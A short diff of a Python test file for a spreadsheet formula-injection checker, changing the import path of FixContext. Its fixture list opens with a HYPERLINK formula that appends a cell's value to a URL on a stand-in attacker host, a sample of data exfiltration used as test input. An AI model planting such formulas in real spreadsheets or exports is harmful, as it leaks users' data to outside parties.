@@ -9,7 +9,7 @@ import pytest
 
 from odwb_assist import quality
 from odwb_assist.checks.formula_injection import NeutraliseFormulas, formula_cells
-from odwb_assist.quality.fixing import FixContext
+from odwb_assist.core.contract import FixContext
 
 RUNS = [
     '=HYPERLINK("http://evil.example/?d="&A2,"Namur")',
